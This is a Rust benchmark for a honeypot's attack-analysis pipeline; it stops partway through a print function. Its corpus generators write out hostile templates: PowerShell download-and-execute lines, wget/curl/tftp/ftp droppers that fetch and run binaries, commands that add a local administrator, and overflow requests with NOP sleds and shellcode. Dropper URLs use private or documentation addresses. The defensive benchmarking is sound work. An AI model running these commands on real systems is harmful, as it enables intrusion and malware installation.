//! anbench: throughput of the analysis pipeline on one core, in MB/s of payload.
//!
//! ```text
//! cargo run --release --example anbench -- [--seconds 1] [--seed 1] [--class NAME] [--set classifiers]
//! ```
//!
//! Builds the analyzers from a config with every analyzer enabled except `selftest`
//! (the decoders, the http/tftp/ftp downloaders and `store`), generates a corpus from
//! a fixed seed (HTTP requests, NTLM/Negotiate blobs, long base64 runs, UTF-16LE
//! commands, percent-encoded queries, gzip request bodies, RFB sessions, random
//! binary, TLS ClientHellos, shell commands with download URLs; 100 B to 1 MiB) and
//! runs `pipeline::analyze` over it in this thread, as one analysis worker does. The
//! baseline is what every attack costs anyway: md5 + sha256 + sha512 of the payload
//! (`Hashes::of`, done when the attack is sealed).
//!
//! No download connects anywhere: the only URLs in the corpus (class `commands`)
//! name private, loopback or documentation addresses, which `[downloads]` refuses
//! before any connect (the harness checks every download record says `refused`).
//! Each URL is unique, so the dedup window never short-cuts the check.
//!
//! `--set classifiers` (issue 6, point 8) turns every classifier on with fixtures the
//! harness writes itself (a YARA ruleset, a fuzzy signature list, a clamd with its own
//! database, see `anbench/classifiers.rs`), adds two classes (`exe`: executables
//! embedded after exploit headers; `shellcode`: overflow requests with GetPC
//! shellcode) and prints each classifier's MB/s alone on every class, beside the
//! hashing baseline and the whole pipeline, and its µs on connbench's request.

#[path = "anbench/classifiers.rs"]
mod classifiers;

use anyhow::{bail, Context as _, Result};
use base64::Engine as _;
use clap::Parser;
use honeytrap::analysis::pipeline;
use honeytrap::analysis::registry::AnalyzerSet;
use honeytrap::analysis::{Analyzer, Input, InputKind, Output, Stage};
use honeytrap::attack::{Attack, Captured, EndReason, Hashes, Mode, Transcript};
use honeytrap::stats::{Stats, Throttle};
use std::collections::BTreeMap;
use std::io::Write as _;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Smallest and largest generated payload.
const MIN_SIZE: usize = 100;
const MAX_SIZE: usize = 1 << 20;

#[derive(Debug, Parser)]
#[command(about = "Analysis pipeline throughput (MB/s of payload, one thread)")]
struct Args {
    /// Least measured seconds per class and per measurement (the corpus is repeated).
    #[arg(long, default_value_t = 1.0)]
    seconds: f64,
    /// Seed of the corpus generator.
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// Inputs generated per class (sizes log-uniform in 100 B ..= 1 MiB).
    #[arg(long, default_value_t = 48)]
    inputs: usize,
    /// Only this class (default: all).
    #[arg(long)]
    class: Option<String>,
    /// Which analyzers: `default` (every analyzer with its defaults) or
    /// `classifiers` (every classifier on with the harness's fixtures; per-classifier
    /// tables).
    #[arg(long, value_enum, default_value_t = Set::Default)]
    set: Set,
    /// With `--set classifiers`: do not start clamd (the clamav row says so).
    #[arg(long)]
    no_clamd: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
enum Set {
    Default,
    Classifiers,
}

/// The classifiers measured alone by `--set classifiers`, in table order.
const CLASSIFIERS: &[&str] = &["exe", "fuzzy", "yara", "clamav", "shellcode"];

// ---------------------------------------------------------------------------
// Deterministic generator

/// splitmix64: small, fast, and the same corpus on every machine.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        let mut v = Vec::with_capacity(n + 8);
        while v.len() < n {
            v.extend(self.next().to_le_bytes());
        }
        v.truncate(n);
        v
    }
    fn word(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| (b'a' + self.below(26) as u8) as char)
            .collect()
    }
    /// A size log-uniform in MIN_SIZE ..= MAX_SIZE.
    fn size(&mut self) -> usize {
        let (lo, hi) = ((MIN_SIZE as f64).ln(), (MAX_SIZE as f64).ln());
        let u = (self.next() >> 11) as f64 / (1u64 << 53) as f64;
        ((lo + u * (hi - lo)).exp() as usize).clamp(MIN_SIZE, MAX_SIZE)
    }
    fn ip_forbidden(&mut self) -> String {
        match self.below(4) {
            0 => format!(
                "10.{}.{}.{}",
                self.below(256),
                self.below(256),
                1 + self.below(254)
            ),
            1 => format!("192.168.{}.{}", self.below(256), 1 + self.below(254)),
            2 => format!("127.0.{}.{}", self.below(256), 1 + self.below(254)),
            _ => format!("198.51.100.{}", 1 + self.below(254)),
        }
    }
}

fn b64(b: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(b)
}

/// Pad `v` to `size` with `filler` (called until long enough), then cut there.
fn fill(mut v: Vec<u8>, size: usize, mut filler: impl FnMut(&mut Vec<u8>)) -> Vec<u8> {
    while v.len() < size {
        let before = v.len();
        filler(&mut v);
        if v.len() == before {
            break;
        }
    }
    v.truncate(size);
    v
}

// ---------------------------------------------------------------------------
// Input classes

type Gen = fn(&mut Rng, usize) -> Vec<u8>;

const CLASSES: &[(&str, Gen)] = &[
    ("http", gen_http),
    ("ntlm", gen_ntlm),
    ("base64", gen_base64),
    ("utf16", gen_utf16),
    ("percent", gen_percent),
    ("gzip", gen_gzip),
    ("rfb", gen_rfb),
    ("binary", gen_binary),
    ("tls", gen_tls),
    ("commands", gen_commands),
];

/// Classes added by `--set classifiers`.
const CLASSIFIER_CLASSES: &[(&str, Gen)] = &[("exe", gen_exe), ("shellcode", gen_shellcode)];

fn request_head(r: &mut Rng, method: &str, path: &str) -> String {
    format!(
        "{method} {path} HTTP/1.1\r\nHost: {}.example\r\nUser-Agent: Mozilla/5.0 (compatible; {}/{}.{})\r\nAccept: */*\r\nAccept-Language: en-US,en;q=0.5\r\nConnection: keep-alive\r\nCookie: session={}\r\n",
        r.word(8),
        r.word(6),
        r.below(10),
        r.below(100),
        r.word(24)
    )
}

/// Pipelined plain HTTP requests with headers (no codings).
fn gen_http(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        let path = format!("/{}/{}.php?id={}", r.word(5), r.word(7), r.below(100000));
        let mut h = request_head(r, "GET", &path);
        for _ in 0..r.below(6) {
            h.push_str(&format!("X-{}: {}\r\n", r.word(6), r.word(20)));
        }
        h.push_str("\r\n");
        v.extend(h.as_bytes());
    })
}

/// An NTLMSSP message of `kind` (1, 2 or 3); type 3 carries names in UTF-16LE.
fn ntlmssp(r: &mut Rng, kind: u32) -> Vec<u8> {
    let mut m = b"NTLMSSP\0".to_vec();
    m.extend(kind.to_le_bytes());
    if kind != 3 {
        m.extend(r.bytes(32));
        return m;
    }
    let utf16 = |s: &str| {
        s.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let fields = [
        r.bytes(24),
        r.bytes(24),
        utf16(&r.word(8).to_uppercase()),
        utf16(&r.word(6)),
        utf16(&r.word(10).to_uppercase()),
        r.bytes(16),
    ];
    let mut offset = 64u32;
    for f in &fields {
        m.extend((f.len() as u16).to_le_bytes());
        m.extend((f.len() as u16).to_le_bytes());
        m.extend(offset.to_le_bytes());
        offset += f.len() as u32;
    }
    m.extend(0xe288_8215u32.to_le_bytes()); // flags
    for f in &fields {
        m.extend(f);
    }
    m
}

/// HTTP requests with `Authorization: NTLM|Negotiate <base64 NTLMSSP>`.
fn gen_ntlm(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        let mut h = request_head(r, "GET", "/ews/exchange.asmx");
        let scheme = if r.below(2) == 0 { "NTLM" } else { "Negotiate" };
        let kind = [1, 3, 3][r.below(3)];
        h.push_str(&format!(
            "Authorization: {scheme} {}\r\n\r\n",
            b64(&ntlmssp(r, kind))
        ));
        v.extend(h.as_bytes());
    })
}

/// Shell lines with long base64 runs: PowerShell `-enc` (base64 of UTF-16LE) and
/// MIME-wrapped random data.
fn gen_base64(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        if r.below(2) == 0 {
            let cmd = format!(
                "IEX (New-Object Net.WebClient).DownloadString('{}'); Start-Sleep {}",
                r.word(40),
                r.below(60)
            );
            let u16: Vec<u8> = cmd.encode_utf16().flat_map(u16::to_le_bytes).collect();
            v.extend(format!("powershell.exe -nop -w hidden -enc {}\r\n", b64(&u16)).as_bytes());
        } else {
            let n = 48 + r.below(4096);
            let text = b64(&r.bytes(n));
            v.extend(b"echo ");
            for line in text.as_bytes().chunks(76) {
                v.extend(line);
                v.extend(b"\r\n");
            }
            v.extend(b" | base64 -d > /tmp/x\r\n");
        }
    })
}

/// UTF-16LE commands behind a small binary header (as SMB carries them).
fn gen_utf16(r: &mut Rng, size: usize) -> Vec<u8> {
    let mut head = vec![0u8, 0, 0, 0];
    head.extend(b"\xfeSMB");
    head.extend(r.bytes(56));
    fill(head, size, |v| {
        let cmd = format!(
            "cmd.exe /c net user {} {} /add & net localgroup administrators {} /add\r\n",
            r.word(6),
            r.word(10),
            r.word(6)
        );
        v.extend(cmd.encode_utf16().flat_map(u16::to_le_bytes));
    })
}

/// Requests with percent-encoded queries (and `%uXXXX`).
fn gen_percent(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        let cmd = format!(
            "cd /tmp; echo {} > {}; sh {}",
            r.word(30),
            r.word(5),
            r.word(5)
        );
        let mut q = String::new();
        for b in cmd.bytes() {
            if r.below(8) == 0 {
                q.push_str(&format!("%u00{b:02x}"));
            } else if b.is_ascii_alphanumeric() && r.below(2) == 0 {
                q.push(b as char);
            } else {
                q.push_str(&format!("%{b:02X}"));
            }
        }
        let head = request_head(r, "GET", &format!("/cgi-bin/luci?cmd={q}&x=a+b"));
        v.extend(head.as_bytes());
        v.extend(b"\r\n");
    })
}

/// POSTs with gzip request bodies (text that compresses ~4x).
fn gen_gzip(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        let want = (size - v.len().min(size)).clamp(64, 256 << 10);
        let mut text = Vec::new();
        while text.len() < want * 4 {
            let n = 4 + r.below(12);
            text.extend(format!("{}={}&", r.word(4), r.word(n)).as_bytes());
            if r.below(8) == 0 {
                text.extend(&r.bytes(4));
            }
        }
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(&text).expect("in memory");
        let body = gz.finish().expect("in memory");
        let mut h = request_head(r, "POST", "/api/upload");
        h.push_str(&format!(
            "Content-Encoding: gzip\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
            body.len()
        ));
        v.extend(h.as_bytes());
        v.extend(body);
    })
}

/// An RFB 3.8 client session: typed commands (key down/up), pointer moves, pastes.
fn gen_rfb(r: &mut Rng, size: usize) -> Vec<u8> {
    let mut s = b"RFB 003.008\n".to_vec();
    s.push(1); // security None
    s.push(1); // ClientInit
    s.extend([
        0, 0, 0, 0, 32, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0, 0, 0, 0,
    ]);
    s.extend([2, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 1]);
    fill(s, size, |v| match r.below(10) {
        0 => {
            let text = format!("wget http://{}/{}\n", r.ip_forbidden(), r.word(6));
            v.extend([6, 0, 0, 0]);
            v.extend((text.len() as u32).to_be_bytes());
            v.extend(text.as_bytes());
        }
        1 | 2 => {
            v.extend([5, 0]);
            v.extend((r.below(1920) as u16).to_be_bytes());
            v.extend((r.below(1080) as u16).to_be_bytes());
        }
        _ => {
            let n = 1 + r.below(8);
            let word = format!("{} ", r.word(n));
            for c in word.chars().chain(std::iter::once('\r')) {
                let sym = if c == '\r' { 0xff0d } else { c as u32 };
                for down in [1u8, 0] {
                    v.extend([4, down, 0, 0]);
                    v.extend(sym.to_be_bytes());
                }
            }
        }
    })
}

fn gen_binary(r: &mut Rng, size: usize) -> Vec<u8> {
    r.bytes(size)
}

/// A TLS ClientHello with SNI, then application-data records of random bytes.
fn gen_tls(r: &mut Rng, size: usize) -> Vec<u8> {
    let host = format!("{}.example.com", r.word(10));
    let mut ext = Vec::new();
    let mut sni = vec![0u8];
    sni.extend((host.len() as u16).to_be_bytes());
    sni.extend(host.as_bytes());
    let mut sni_list = (sni.len() as u16).to_be_bytes().to_vec();
    sni_list.extend(sni);
    let mut push_ext = |ty: u16, body: &[u8]| {
        ext.extend(ty.to_be_bytes());
        ext.extend((body.len() as u16).to_be_bytes());
        ext.extend(body);
    };
    push_ext(0, &sni_list);
    push_ext(10, &[0, 6, 0, 29, 0, 23, 0, 24]);
    push_ext(11, &[1, 0]);
    push_ext(16, &[0, 3, 2, b'h', b'2']);
    let mut hello = vec![3, 3];
    hello.extend(r.bytes(32));
    hello.push(32);
    hello.extend(r.bytes(32));
    let suites: [u16; 8] = [
        0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0x009c,
    ];
    hello.extend(((suites.len() * 2) as u16).to_be_bytes());
    for s in suites {
        hello.extend(s.to_be_bytes());
    }
    hello.extend([1, 0]);
    hello.extend((ext.len() as u16).to_be_bytes());
    hello.extend(ext);
    let mut hs = vec![1];
    hs.extend(&(hello.len() as u32).to_be_bytes()[1..]);
    hs.extend(hello);
    let mut rec = vec![22, 3, 1];
    rec.extend((hs.len() as u16).to_be_bytes());
    rec.extend(hs);
    fill(rec, size, |v| {
        let n = 1 + r.below(16 << 10);
        v.extend([23, 3, 3]);
        v.extend((n as u16).to_be_bytes());
        v.extend(r.bytes(n));
    })
}

/// Shell droppers (wget/curl/tftp/ftp/PowerShell) naming forbidden addresses only.
fn gen_commands(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        let (ip, f) = (r.ip_forbidden(), r.word(8));
        let line = match r.below(5) {
            0 => format!("cd /tmp || cd /var/run; wget http://{ip}/{f}.sh; chmod 777 {f}.sh; sh {f}.sh\r\n"),
            1 => format!("curl -s -O http://{ip}:8080/bins/{f}.arm7 && ./{f}.arm7 {}\r\n", r.word(4)),
            2 => format!("tftp -i {ip} GET {f}.exe & start {f}.exe\r\n"),
            3 => format!("busybox tftp -g -r {f} {ip}; chmod +x {f}; ./{f}\r\n"),
            _ => format!("cmd /c echo open {ip} 21 > o&echo user {} {} >> o&echo binary >> o&echo get {f}.exe >> o&echo bye >> o&ftp -n -s:o&{f}.exe\r\n", r.word(5), r.word(8)),
        };
        v.extend(line.as_bytes());
        // Most of a dropper payload is noise around the commands.
        for _ in 0..r.below(20) {
            v.extend(format!("echo {}\r\n", r.word(30)).as_bytes());
        }
    })
}

/// Droppers and exploit bodies with executables embedded after a header: ELF32 ARM,
/// ELF64 x86-64 or PE32 around random code with strings and, sometimes, shellcode.
fn gen_exe(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        match r.below(3) {
            0 => v.extend(request_head(r, "POST", "/upload.php").as_bytes()),
            1 => v.extend(format!("echo -ne '\\x7f' > /tmp/{}; ", r.word(6)).as_bytes()),
            _ => {
                let n = 16 + r.below(200);
                v.extend(r.bytes(n))
            }
        }
        v.extend(b"\r\n\r\n");
        let room = size.saturating_sub(v.len()).clamp(256, 256 << 10);
        let n = room / 2 + r.below(room / 2);
        let mut code = r.bytes(n);
        if r.below(3) == 0 {
            let at = r.below(code.len().saturating_sub(64).max(1));
            let sc = classifiers::xor_shellcode(16, 1 + r.below(255) as u8);
            let end = (at + sc.len()).min(code.len());
            code[at..end].copy_from_slice(&sc[..end - at]);
        }
        code.extend(format!("/bin/busybox {}\0", r.word(6).to_uppercase()).as_bytes());
        v.extend(match r.below(3) {
            0 => classifiers::elf(true, &code),
            1 => classifiers::elf(false, &code),
            _ => classifiers::pe(&code),
        });
    })
}

/// Overflow requests: a long filler, a NOP sled, GetPC shellcode (XOR decoder,
/// fnstenv or call/pop), return addresses; some with a random binary tail.
fn gen_shellcode(r: &mut Rng, size: usize) -> Vec<u8> {
    fill(Vec::new(), size, |v| {
        v.extend(format!("GET /{}?q=", r.word(6)).as_bytes());
        v.extend(b"A".repeat(64 + r.below(1024)));
        v.extend(match r.below(3) {
            0 => classifiers::xor_shellcode(16 + r.below(200), 1 + r.below(255) as u8),
            1 => {
                let mut s = vec![0x90; 16 + r.below(64)];
                s.extend(classifiers::fnstenv_shellcode());
                s
            }
            _ => classifiers::callpop_shellcode(),
        });
        let ret = (0x0804_0000u32 + r.below(0xffff) as u32).to_le_bytes();
        for _ in 0..8 + r.below(32) {
            v.extend(ret);
        }
        v.extend(b" HTTP/1.0\r\n\r\n");
        if r.below(2) == 0 {
            let n = r.below(4096);
            v.extend(r.bytes(n));
        }
    })
}

// ---------------------------------------------------------------------------
// Measurement

fn config_text(data_dir: &std::path::Path) -> String {
    // Every analyzer on (their defaults), selftest explicitly off. [downloads] is the
    // default: private, loopback and documentation addresses are refused.
    format!(
        "[sensor]\ndata_dir = \"{}\"\n\n[analysis]\nenabled = true\n\n[analyzer.selftest]\nenabled = false\n",
        data_dir.display()
    )
}

fn attack(payload: &[u8]) -> Attack {
    let mut t = Transcript::default();
    t.push_in(payload, u64::MAX);
    Captured {
        start: chrono::Utc::now(),
        end: chrono::Utc::now(),
        sensor: "anbench".into(),
        monitor: "listen".into(),
        mode: Mode::Normal,
        protocol: honeytrap::proto::Protocol::Tcp,
        local: "192.0.2.1:80".parse().unwrap(),
        remote: "203.0.113.7:40000".parse().unwrap(),
        transcript: t,
        responses_sent: 0,
        end_reason: EndReason::Closed,
        relay: None,
    }
    .seal()
}

/// What analysing one class produced (summed over one pass of its corpus).
#[derive(Default)]
struct Yield {
    virtuals: u64,
    findings: u64,
    downloads: u64,
    refused: u64,
    /// Executables cut out of payloads by `exe` (downloads that connect nowhere).
    extracted: u64,
    failures: u64,
}

/// Repeat `pass` (over `bytes` of payload) until `seconds` have passed; MB/s.
fn measure(seconds: f64, bytes: u64, mut pass: impl FnMut()) -> (f64, u32) {
    pass(); // warm
    let t0 = Instant::now();
    let mut n = 0u32;
    while n == 0 || t0.elapsed().as_secs_f64() < seconds {
        pass();
        n += 1;
    }
    let mb = (bytes * n as u64) as f64 / 1e6;
    (mb / t0.elapsed().as_secs_f64(), n)
}

struct Ctx {
    set: AnalyzerSet,
    limits: honeytrap::config::AnalysisConfig,
    stats: Stats,
    throttle: Throttle,
}

impl Ctx {
    /// Per-read analyzers on the first chunk (as the session does) and on the
    /// whole transcript (as the recorder does when it seals), then the pipeline on
    /// the sealed attack.
    fn analyze(&self, a: &mut Attack, y: Option<&mut Yield>) {
        let first = &a.transcript.payload_prefix(64 << 10);
        let mut found = Vec::new();
        for p in &self.set.per_read {
            p.on_chunk(0, first, &mut found);
            p.on_seal(&a.transcript, &mut found);
        }
        a.analysis.findings.extend(found);
        let virtuals = pipeline::analyze(&self.set, &self.limits, &self.stats, &self.throttle, a);
        if let Some(y) = y {
            y.virtuals += virtuals.len() as u64;
            y.findings += a.analysis.findings.len() as u64;
            y.downloads += a.analysis.downloads.len() as u64;
            y.refused += a
                .analysis
                .downloads
                .iter()
                .filter(|d| d.error.as_deref().is_some_and(|e| e.contains("refused: ")))
                .count() as u64;
            y.failures += a.analysis.failures.len() as u64;
            for d in &a.analysis.downloads {
                let e = d.error.as_deref().unwrap_or("");
                if d.analyzer == "exe" && d.url.starts_with("extracted:") {
                    y.extracted += 1;
                } else if !e.contains("refused: ") {
                    eprintln!(
                        "not refused: {} {} cached={} error={e:?}",
                        d.analyzer, d.url, d.cached
                    );
                }
            }
        }
    }
}

struct Row {
    class: String,
    inputs: usize,
    bytes: u64,
    hash: f64,
    analyze: f64,
    both: f64,
    y: Yield,
}

fn run_class(ctx: &Ctx, args: &Args, name: &str, corpus: &[Vec<u8>]) -> Row {
    let bytes: u64 = corpus.iter().map(|p| p.len() as u64).sum();
    let sealed: Vec<Attack> = corpus.iter().map(|p| attack(p)).collect();
    let mut y = Yield::default();
    for a in &sealed {
        ctx.analyze(&mut a.clone(), Some(&mut y));
    }
    let (hash, _) = measure(args.seconds, bytes, || {
        for p in corpus {
            std::hint::black_box(Hashes::of(p));
        }
    });
    // Cloning the sealed attack copies the transcript: cheap next to the analysis,
    // and the same work for every class.
    let (analyze, _) = measure(args.seconds, bytes, || {
        for a in &sealed {
            ctx.analyze(&mut a.clone(), None);
        }
    });
    let both = 1.0 / (1.0 / hash + 1.0 / analyze);
    Row {
        class: name.to_string(),
        inputs: corpus.len(),
        bytes,
        hash,
        analyze,
        both,
        y,
    }
}

fn main() -> Result<()> {
    let args = Args::parse();
    if !(args.seconds > 0.0 && args.seconds <= 60.0) {
        bail!("--seconds must be in (0, 60]");
    }
    if !(1..=10_000).contains(&args.inputs) {
        bail!("--inputs must be in 1..=10000");
    }
    let dir = tempfile::Builder::new().prefix("anbench-").tempdir()?;
    let fixtures = match args.set {
        Set::Default => None,
        Set::Classifiers => Some(
            classifiers::Fixtures::new(&[classifiers::bench_elf()], args.no_clamd, 0)
                .context("classifier fixtures")?,
        ),
    };
    let mut text = config_text(dir.path());
    if let Some(f) = &fixtures {
        text.push('\n');
        text.push_str(&f.toml());
    }
    let config = honeytrap::config::parse(std::path::Path::new("<anbench>"), &text)
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    let set = AnalyzerSet::build(&config).context("building the analyzers")?;
    if set.names().contains(&"selftest") {
        bail!("selftest must be off");
    }
    let ctx = Ctx {
        set,
        limits: config.analysis.clone(),
        stats: Stats::default(),
        throttle: Throttle::default(),
    };
    println!(
        "# anbench: seed={} inputs/class={} sizes {}..{} B log-uniform; min {}s per measurement; one thread",
        args.seed, args.inputs, MIN_SIZE, MAX_SIZE, args.seconds
    );
    println!("# analyzers: {}", ctx.set.names().join(", "));
    println!(
        "# analysis: max_depth={} max_downloads={}; downloads: default [downloads] (no allow-list)",
        ctx.limits.max_depth, ctx.limits.max_downloads
    );
    if let Some(f) = &fixtures {
        println!("# classifiers: {}", f.describe());
        println!("# load average before: {}", load_average());
    }
    println!();
    println!(
        "{:<9} {:>6} {:>8} {:>10} {:>11} {:>12} {:>9} {:>9} {:>10} {:>9}",
        "class",
        "inputs",
        "MB",
        "hash MB/s",
        "analyze MB/s",
        "hash+an MB/s",
        "virtuals",
        "findings",
        "downloads",
        "failures"
    );
    let mut classes: Vec<(&str, Gen)> = CLASSES.to_vec();
    if fixtures.is_some() {
        classes.extend(CLASSIFIER_CLASSES);
    }
    let mut rows = Vec::new();
    let mut corpora = Vec::new();
    let mut all_corpus = Vec::new();
    for (i, (name, gen)) in classes.iter().enumerate() {
        if args.class.as_deref().is_some_and(|c| c != *name) {
            continue;
        }
        let mut r = Rng(args.seed.wrapping_mul(1000).wrapping_add(i as u64));
        let corpus: Vec<Vec<u8>> = (0..args.inputs)
            .map(|_| {
                let size = r.size();
                gen(&mut r, size)
            })
            .collect();
        let row = run_class(&ctx, &args, name, &corpus);
        print_row(&row);
        all_corpus.extend(corpus.iter().cloned());
        corpora.push((*name, corpus));
        rows.push(row);
    }
    if rows.len() > 1 {
        let row = run_class(&ctx, &args, "all", &all_corpus);
        print_row(&row);
        rows.push(row);
    }
    if fixtures.is_some() {
        classifier_table(&ctx, &args, &corpora, &all_corpus)?;
    }
    breakdown(&ctx, &all_corpus, "the whole corpus")?;
    small_inputs(&ctx, &args, fixtures.as_ref())?;
    let classes = rows.iter().filter(|r| r.class != "all");
    let (d, refused, extracted) = classes.fold((0, 0, 0), |(d, f, x), r| {
        (d + r.y.downloads, f + r.y.refused, x + r.y.extracted)
    });
    println!();
    println!(
        "# download records: {d}, refused before connecting: {refused}, executables extracted by exe: {extracted}"
    );
    if d != refused + extracted {
        bail!("a download was not refused: the corpus must not reach anything");
    }
    println!("# counters: {}", counters(&ctx.stats));
    if fixtures.is_some() {
        println!("# load average after: {}", load_average());
    }
    Ok(())
}

/// /proc/loadavg's first three fields.
fn load_average() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
        .unwrap_or_else(|_| "?".into())
}

/// One classifier run alone on `data` as a payload; its output.
fn run_alone(a: &dyn Analyzer, attack: &Attack, data: &[u8]) -> Output {
    let input = Input {
        data,
        kind: InputKind::Payload,
        attack,
        depth: 0,
        deadline: Instant::now() + Duration::from_secs(60),
        download: None,
        downloads_left: 5,
    };
    let mut out = Output::default();
    if let Err(e) = a.run(&input, &mut out) {
        eprintln!("{} failed: {e:#}", a.name());
    }
    out
}

/// `--set classifiers`: each classifier alone on each class (MB/s of payload, one
/// thread), the five together, and the findings each made per input.
fn classifier_table(
    ctx: &Ctx,
    args: &Args,
    corpora: &[(&str, Vec<Vec<u8>>)],
    all: &[Vec<u8>],
) -> Result<()> {
    let present: Vec<Option<Arc<dyn Analyzer>>> = CLASSIFIERS
        .iter()
        .map(|n| ctx.set.analyze.iter().find(|a| a.name() == *n).cloned())
        .collect();
    println!();
    println!(
        "# each classifier alone on the payloads of each class (MB/s, one thread; clamav: clamd's time included)"
    );
    print!("{:<9} {:>8} {:>10}", "class", "MB", "hash MB/s");
    for n in CLASSIFIERS {
        print!(" {:>9}", n);
    }
    print!(" {:>11}", "all 5 MB/s");
    for n in CLASSIFIERS {
        print!(" {:>6}", format!("f:{}", &n[..3.min(n.len())]));
    }
    println!();
    let mut sets: Vec<(&str, &[Vec<u8>])> = corpora.iter().map(|(n, c)| (*n, &c[..])).collect();
    if corpora.len() > 1 {
        sets.push(("all", all));
    }
    for (name, corpus) in sets {
        let bytes: u64 = corpus.iter().map(|p| p.len() as u64).sum();
        let sealed: Vec<Attack> = corpus.iter().map(|p| attack(p)).collect();
        let (hash, _) = measure(args.seconds, bytes, || {
            for p in corpus {
                std::hint::black_box(Hashes::of(p));
            }
        });
        let mut rates = Vec::new();
        let mut found = Vec::new();
        for a in &present {
            let Some(a) = a else {
                rates.push(None);
                found.push(None);
                continue;
            };
            let n: usize = sealed
                .iter()
                .zip(corpus)
                .map(|(s, p)| run_alone(a.as_ref(), s, p).findings.len())
                .sum();
            found.push(Some(n as f64 / corpus.len() as f64));
            let (rate, _) = measure(args.seconds, bytes, || {
                for (s, p) in sealed.iter().zip(corpus) {
                    std::hint::black_box(run_alone(a.as_ref(), s, p));
                }
            });
            rates.push(Some(rate));
        }
        let together = 1.0 / rates.iter().flatten().map(|r| 1.0 / r).sum::<f64>();
        print!("{:<9} {:>8.1} {:>10.0}", name, bytes as f64 / 1e6, hash);
        for r in &rates {
            match r {
                Some(r) => print!(" {:>9.1}", r),
                None => print!(" {:>9}", "n/a"),
            }
        }
        print!(" {:>11.1}", together);
        for f in &found {
            match f {
                Some(f) => print!(" {:>6.1}", f),
                None => print!(" {:>6}", "n/a"),
            }
        }
        println!();
    }
    if present[3].is_none() {
        println!("# clamav: clamd not available (n/a)");
    }
    println!("# f:xxx: findings per input of that classifier alone (on the payload only)");
    Ok(())
}

/// An analyzer with a stopwatch: time spent in `run`, summed per analyzer.
struct Timed {
    inner: Arc<dyn Analyzer>,
    spent: Arc<Mutex<BTreeMap<&'static str, Duration>>>,
}

impl Analyzer for Timed {
    fn name(&self) -> &'static str {
        self.inner.name()
    }
    fn stage(&self) -> Stage {
        self.inner.stage()
    }
    fn accepts(&self, kind: InputKind) -> bool {
        self.inner.accepts(kind)
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        let t0 = Instant::now();
        let r = self.inner.run(input, out);
        *self
            .spent
            .lock()
            .unwrap()
            .entry(self.inner.name())
            .or_default() += t0.elapsed();
        r
    }
}

/// Where one pass over `corpus` spends its time: each analyzer, and the rest of
/// `analyze` (copies, virtual attacks' hashes and ids, bookkeeping).
fn breakdown(ctx: &Ctx, corpus: &[Vec<u8>], what: &str) -> Result<()> {
    let spent = Arc::new(Mutex::new(BTreeMap::new()));
    let wrap = |v: &[Arc<dyn Analyzer>]| -> Vec<Arc<dyn Analyzer>> {
        v.iter()
            .map(|a| {
                Arc::new(Timed {
                    inner: Arc::clone(a),
                    spent: Arc::clone(&spent),
                }) as Arc<dyn Analyzer>
            })
            .collect()
    };
    let timed = Ctx {
        set: AnalyzerSet {
            per_read: ctx.set.per_read.clone(),
            decode: wrap(&ctx.set.decode),
            analyze: wrap(&ctx.set.analyze),
            store: wrap(&ctx.set.store),
            post_process: wrap(&ctx.set.post_process),
        },
        limits: ctx.limits.clone(),
        stats: Stats::default(),
        throttle: Throttle::default(),
    };
    let sealed: Vec<Attack> = corpus.iter().map(|p| attack(p)).collect();
    let bytes: u64 = corpus.iter().map(|p| p.len() as u64).sum();
    let t0 = Instant::now();
    for a in &sealed {
        timed.analyze(&mut a.clone(), None);
    }
    let total = t0.elapsed();
    let spent = spent.lock().unwrap();
    let in_analyzers: Duration = spent.values().sum();
    println!();
    println!(
        "# where one pass over {what} ({:.1} MB, {:.2} s) goes",
        bytes as f64 / 1e6,
        total.as_secs_f64()
    );
    println!(
        "{:<22} {:>8} {:>7} {:>14}",
        "analyzer", "seconds", "share", "MB/s if alone"
    );
    let mut by_time: Vec<_> = spent.iter().collect();
    by_time.sort_by_key(|(_, d)| std::cmp::Reverse(**d));
    let line = |name: &str, d: Duration| {
        println!(
            "{:<22} {:>8.3} {:>6.1}% {:>14.0}",
            name,
            d.as_secs_f64(),
            100.0 * d.as_secs_f64() / total.as_secs_f64(),
            bytes as f64 / 1e6 / d.as_secs_f64().max(1e-9)
        )
    };
    for (name, d) in by_time {
        line(name, *d);
    }
    line("(rest of analyze)", total.saturating_sub(in_analyzers));
    Ok(())
}

fn print_row(r: &Row) {
    let per = |n: u64| n as f64 / r.inputs as f64;
    println!(
